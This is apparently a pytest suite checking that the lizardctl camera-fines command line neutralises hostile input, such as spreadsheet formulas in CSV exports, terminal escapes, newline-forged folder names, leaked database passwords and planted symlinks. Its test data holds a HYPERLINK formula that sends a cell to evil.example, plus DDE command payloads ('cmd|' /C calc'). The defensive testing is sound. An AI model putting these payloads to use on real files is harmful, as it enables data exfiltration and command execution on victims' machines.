"""What lizardctl writes and prints, fed hostile text (issue 11, items 6, 7 and 10).

Each test replays a reproduction through the real command line on real temp folders: a
camera's ``violation_value``, owner and violation names carrying spreadsheet formulas,
terminal escape sequences and rich markup; folder names that are not UTF-8 or hold a
newline; secrets in the database URL's query string; symlinks planted where ``-o`` writes.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from lizardctl.core.output import FORMULA_STARTS
from lizardctl.testing.dumpgen import generate_dump
from tests.e2e.conftest import Cli, Outcome, invoke

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Pay here")'
ESCAPES = "\x1b[2J\x1b[31m[red]62\x9b1m"
"""Clear screen, red, rich markup and a C1 CSI: what a hostile camera sends as its value."""
SHOWN_ESCAPES = "\\x1b[2J\\x1b[31m[red]62\\x9b1m"
OWNER_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
MARKUP_OWNER = "[bold red]Evil[/] Corp"
VIOLATION_FORMULA = "+cmd|' /C notepad'!A1"
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
"""Any control character but the newline that ends each line of output."""


def _no_raw_controls(out: Outcome) -> None:
    assert RAW_CONTROL.search(out.stdout) is None, out.stdout
    assert RAW_CONTROL.search(out.stderr) is None, out.stderr


def _hostile_dump(root: Path) -> tuple[Path, Path]:
    """One camerus1 camera, three JSON shots: values with a formula, with escapes, and a
    negative-looking value. Returns (cameras.csv, dump folder)."""
    manifest = generate_dump(root, cameras=1, shots_per_camera=3, bad=False, binary_fraction=0)
    values = iter((FORMULA, ESCAPES, "-5km/h"))
    for shot in manifest.shots:
        assert shot.metadata is not None and shot.metadata.suffix == ".json"
        metadata = json.loads(shot.metadata.read_text(encoding="utf-8"))
        metadata["violation_value"] = next(values)
        shot.metadata.write_text(json.dumps(metadata), encoding="utf-8")
    return manifest.cameras_csv, manifest.dump_dir


def _confirm_all(cli: Cli) -> list[dict[str, Any]]:
    """Decide every case as a violation with one vote each; the cases as listed."""
    cases = cli("cases", "list", "--json").json()["items"]
    assert cli("review", "config", "--votes", "1").code == 0
    for skill in sorted({case["skill"] for case in cases}):
        assert cli("reviewer", "add", f"r{skill}", "--skill", str(skill)).code == 0
        while cli("review", "next", "--reviewer", f"r{skill}", "--json").json()["case"]:
            vote = cli("review", "vote", "-r", f"r{skill}", "--verdict", "violation")
            assert vote.code == 0, vote.output
    return cases  # type: ignore[no-any-return]


@pytest.fixture
def hostile(cli: Cli, tmp_path: Path) -> list[dict[str, Any]]:
    """Hostile cases, all confirmed, with a catalog and owners whose names are formulas."""
    cameras_csv, dump = _hostile_dump(tmp_path / "generated")
    assert cli("camera", "import", cameras_csv).code == 0
    out = cli("ingest", dump, "--workers", "0", "--settle", "0")
    assert out.code == 0, out.output
    cases = _confirm_all(cli)
    assert len(cases) == 3
    violations = tmp_path / "violations.csv"
    with violations.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "name", "fine"])
        writer.writerows([case["violation_id"], VIOLATION_FORMULA, "500"] for case in cases)
    assert cli("violation", "import", violations).code == 0
    owners = tmp_path / "owners.csv"
    with owners.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["plate", "name", "phone", "email", "telegram"])
        writer.writerow([cases[0]["plate"], OWNER_FORMULA, "+79161234567", "", ""])
        assert cases[1]["plate"] != cases[0]["plate"]  # the generator is seeded
        writer.writerow([cases[1]["plate"], MARKUP_OWNER, "", "", "evil_corp"])
    assert cli("owner", "import", owners).code == 0
    return cases


def _csv_cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text)):
        yield from row


def _assert_no_formula(text: str) -> list[dict[str, str]]:
    """No cell of the CSV text starts a formula; returns its rows as dicts."""
    formulas = [cell for cell in _csv_cells(text) if cell.startswith(FORMULA_STARTS)]
    assert formulas == []
    return list(csv.DictReader(io.StringIO(text)))


def test_every_csv_neutralises_formulas_from_dump_and_spreadsheets(
    cli: Cli, tmp_path: Path, hostile: list[dict[str, Any]]
) -> None:
    fines_out, export_out = tmp_path / "fines.csv", tmp_path / "export.csv"
    assert cli("fines", "-o", fines_out).code == 0
    assert cli("export", "-o", export_out).code == 0
    stdout_fines = cli("fines", "--format", "csv")
    stdout_export = cli("export", "--format", "csv")
    assert stdout_fines.code == stdout_export.code == 0
    assert stdout_fines.stdout == fines_out.read_text(encoding="utf-8")
    assert stdout_export.stdout == export_out.read_text(encoding="utf-8")

    fines = _assert_no_formula(fines_out.read_text(encoding="utf-8"))
    values = sorted(row["violation_value"] for row in fines)
    assert values == sorted([f"'{FORMULA}", ESCAPES, "'-5km/h"])
    assert {row["violation"] for row in fines} == {f"'{VIOLATION_FORMULA}"}
    first = next(row for row in fines if row["plate"] == hostile[0]["plate"])
    assert (first["owner"], first["phone"]) == (f"'{OWNER_FORMULA}", "'+79161234567")
    assert {row["fine"] for row in fines} == {"500.00"}

    exported = _assert_no_formula(export_out.read_text(encoding="utf-8"))
    assert sorted(row["violation_value"] for row in exported) == values
    assert {row["level"] for row in exported} == {str(case["skill"]) for case in hostile}

    # JSON Lines is data for programs, not a spreadsheet: the values stay as sent.
    jsonl = cli("fines", "--format", "jsonl")
    rows = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert sorted(row["violation_value"] for row in rows) == sorted([FORMULA, ESCAPES, "-5km/h"])
    assert {row["owner"] for row in rows} >= {OWNER_FORMULA}
    exported_jsonl = cli("export", "--format", "jsonl")
    assert FORMULA in {
        json.loads(line)["violation_value"] for line in exported_jsonl.stdout.split("\n") if line
    }


def test_tables_show_escapes_and_markup_literally(cli: Cli, hostile: list[dict[str, Any]]) -> None:
    listed = cli("cases", "list")
    _no_raw_controls(listed)
    assert SHOWN_ESCAPES in listed.stdout
    case = next(c for c in hostile if c["violation_value"] == ESCAPES)
    shown = cli("cases", "show", case["id"])
    _no_raw_controls(shown)
    assert SHOWN_ESCAPES in shown.stdout  # the value field
    assert "\\u001b[2J\\u001b[31m[red]62\\u009b1m" in shown.stdout  # the raw metadata, JSON

    owners = cli("owner", "list")
    _no_raw_controls(owners)
    assert OWNER_FORMULA in owners.stdout
    assert MARKUP_OWNER in owners.stdout  # printed as text, not read as rich markup
    owner = cli("owner", "show", hostile[0]["plate"])
    _no_raw_controls(owner)
    assert OWNER_FORMULA in owner.stdout

    for args in (("fines",), ("violation", "list"), ("report", "fines")):
        out = cli(*args)
        assert out.code == 0, out.output
        _no_raw_controls(out)


def test_control_characters_in_camera_and_owner_input_are_refused(cli: Cli, tmp_path: Path) -> None:
    """Text typed or imported by people is refused at the edge (exit 2, one line naming the
    field and the code point, never the value), so tables never receive it."""
    title = "\x1b]0;pwned\x07\x1b[8m[link=file:///etc]x[/link]"
    added = cli(
        "camera", "add", "--type", "camerus1", "--lat", "1", "--lon", "2", "--description", title
    )
    assert added.code == 2
    assert "U+001B" in added.stderr
    _no_raw_controls(added)
    assert cli("camera", "list", "--json").json() == []

    owners = tmp_path / "owners.csv"
    owners.write_text(
        'plate,name,phone,email,telegram\n1ABC2377,"Ann\x1b[2K\rBob",+7916,,\n',
        encoding="utf-8",
    )
    imported = cli("owner", "import", owners)
    assert imported.code == 2
    _no_raw_controls(imported)
    assert "Ann" not in imported.output
    assert cli("owner", "list", "--json").json()["items"] == []


def _weird_dump(root: Path, name: bytes = b"root\xff\nFORGED: all good") -> Path:
    """A folder named ``name`` (by default not UTF-8, with a newline), a symlink loop inside
    it (a walk problem naming the folder) and an orphan photo whose name holds an escape."""
    weird = Path(os.fsdecode(os.fsencode(root) + b"/d/" + name))
    weird.mkdir(parents=True)
    (weird / "loop").symlink_to(".")
    (weird / "x\x1b[31m.jpg").write_bytes(b"not a photo")
    return root / "d"


@pytest.mark.parametrize(
    ("name", "shown"),
    [(b"root\xff\nFORGED: all good", "root\\xff"), (b"root\nFORGED: all good", "root")],
    ids=["non-utf8", "utf8"],
)
def test_ingest_summary_and_json_with_hostile_folder_names(
    cli: Cli, db_url: str, tmp_path: Path, name: bytes, shown: str
) -> None:
    dump = _weird_dump(tmp_path, name)
    human = cli("ingest", dump, "--workers", "0", "--settle", "0")
    assert human.code == 1
    _no_raw_controls(human)
    lines = human.stdout.splitlines()
    assert not any(line.startswith("FORGED") for line in lines), human.stdout
    problems = [line for line in lines if line.startswith("  problem: ")]
    assert len(problems) == 1
    assert f"{shown}\\nFORGED: all good/loop" in problems[0]

    machine = cli("ingest", dump, "--workers", "0", "--settle", "0", "--json")
    assert machine.code == 1
    summary = json.loads(machine.stdout)  # strict UTF-8 and valid JSON
    assert summary["rejected_by_reason"] == {"orphan": 1}
    assert len(summary["problems"]) == 1
    assert f"{shown}\nFORGED: all good/loop" in summary["problems"][0]

    rejects = cli("rejects", "--all", "--json")  # both runs' (by default: the latest run's)
    paths = [r["photo_path"] for r in rejects.json()["items"]]
    assert len(paths) == 2
    assert all(p.endswith(f"{shown}\nFORGED: all good/x\x1b[31m.jpg") for p in paths)
    table = cli("rejects")
    _no_raw_controls(table)
    assert "'x\\x1b[31m'" in table.stdout
    report = cli("report")
    _no_raw_controls(report)
    assert not any(line.startswith("FORGED") for line in report.stdout.splitlines())
    json.loads(cli("report", "--json").stdout)


@pytest.mark.postgres
def test_query_string_secrets_are_masked(
    pg_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PostgreSQL takes ``?password=``; every place the URL is printed masks it."""
    monkeypatch.chdir(tmp_path)
    secret_url = f"{pg_url}&password=hunter2"
    assert invoke(["--db", secret_url, "db", "upgrade"]).code == 0
    current = invoke(["--db", secret_url, "db", "current"])
    assert current.code == 0, current.output
    assert "hunter2" not in current.output and "password=***" in current.stdout
    as_json = invoke(["--db", secret_url, "db", "current", "--json"])
    assert "hunter2" not in as_json.output and "password=***" in as_json.json()["url"]

    dump = tmp_path / "empty"
    dump.mkdir()
    for extra in ([], ["--json"]):
        out = invoke(["--db", secret_url, "ingest", str(dump), "--settle", "0", *extra])
        assert out.code == 0, out.output
        assert "hunter2" not in out.output and "password=***" in out.stdout


def test_unreachable_database_error_masks_query_secrets() -> None:
    url = "postgresql+asyncpg://lizard:pw1@127.0.0.1:1/x?password=hunter2&search_path=s"
    out = invoke(["--db", url, "db", "current"])
    assert out.code == 3
    assert out.stderr.startswith("Error: database postgresql+asyncpg://lizard:***@127.0.0.1:1/x?")
    assert "hunter2" not in out.output and "pw1" not in out.output
    assert "password=***" in out.stderr


# -- item 7: -o never follows a planted symlink --------------------------------------------


@pytest.fixture
def sqlite_cli(sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Cli:
    """The CLI on this test's SQLite file: where ``-o`` writes does not depend on the engine."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("LIZARD_DB_URL", raising=False)

    def run(*args: str | Path) -> Outcome:
        return invoke(["--db", sqlite_url, *(str(a) for a in args)])

    assert run("db", "upgrade").code == 0
    return run


@pytest.mark.parametrize(
    "command", [("fines", "-o"), ("fines", "--format", "jsonl", "-o"), ("export", "-o")]
)
def test_output_ignores_a_symlink_at_the_old_temporary_name(
    sqlite_cli: Cli, tmp_path: Path, command: tuple[str, ...]
) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    target = tmp_path / "out.csv"
    (tmp_path / ".out.csv.part").symlink_to(victim)
    out = sqlite_cli(*command, target)
    assert out.code == 0, out.output
    assert victim.read_text() == "precious\n"
    assert target.is_file() and not target.is_symlink()
    assert (tmp_path / ".out.csv.part").is_symlink()  # not ours: left alone
    assert [p.name for p in tmp_path.glob(".out.csv.*")] == [".out.csv.part"]


def test_output_refuses_a_guessed_temporary_name(
    sqlite_cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An attacker who guessed the random part of the temporary name (here: made to guess
    right) gets O_EXCL's refusal; the next name is used and the victim is untouched."""
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    guesses = iter(["feedfacefeedface", "feedfacefeedface", "0123456789abcdef"])
    monkeypatch.setattr("lizardctl.core.files.secrets.token_hex", lambda _n: next(guesses))
    planted = tmp_path / ".out.csv.feedfacefeedface.part"
    planted.symlink_to(victim)
    out = sqlite_cli("export", "-o", tmp_path / "out.csv")
    assert out.code == 0, out.output
    assert victim.read_text() == "precious\n"
    assert (tmp_path / "out.csv").read_text().startswith("case_id,status,plate")
    assert planted.is_symlink() and not (tmp_path / ".out.csv.0123456789abcdef.part").exists()


def test_output_replaces_a_symlinked_target_and_never_writes_through_it(
    sqlite_cli: Cli, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    target = tmp_path / "fines.csv"
    target.symlink_to(victim)
    out = sqlite_cli("fines", "-o", target)
    assert out.code == 0, out.output
    assert victim.read_text() == "precious\n"
    assert not target.is_symlink()
    assert target.read_text().startswith("case_id,plate,owner")


def test_failed_output_leaves_no_temporary(sqlite_cli: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "taken"
    folder.mkdir()
    out = sqlite_cli("export", "-o", folder)
    assert out.code == 2
    assert out.stderr.startswith(f"Error: cannot write {folder}: ")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".part")) == []
    missing = sqlite_cli("fines", "-o", tmp_path / "no" / "such" / "dir.csv")
    assert missing.code == 2 and "cannot write" in missing.stderr


def _run_on_terminal(args: list[str], cwd: Path) -> bytes:
    """``python -m lizardctl ARGS`` with stdout on a pseudo-terminal; what it showed."""
    leader, follower = pty.openpty()
    with subprocess.Popen(
        [sys.executable, "-m", "lizardctl", *args],
        cwd=cwd,
        stdin=subprocess.DEVNULL,
        stdout=follower,
        stderr=subprocess.PIPE,
    ) as process:
        os.close(follower)
        shown = bytearray()
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not chunk:
                break
            shown += chunk
        assert process.wait(timeout=60) == 0, process.stderr.read() if process.stderr else ""
    os.close(leader)
    return bytes(shown)


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_data_on_stdout_is_escaped_on_a_terminal_only(
    cli: Cli, db_url: str, tmp_path: Path, hostile: list[dict[str, Any]]
) -> None:
    for command in (["export"], ["fines", "--format", "csv"]):
        piped = cli(*command)
        assert piped.code == 0 and ESCAPES in piped.stdout  # data for programs: unchanged
        shown = _run_on_terminal(["--db", db_url, *command], tmp_path)
        assert b"\x1b" not in shown and b"\xc2\x9b" not in shown
        assert SHOWN_ESCAPES.encode() in shown
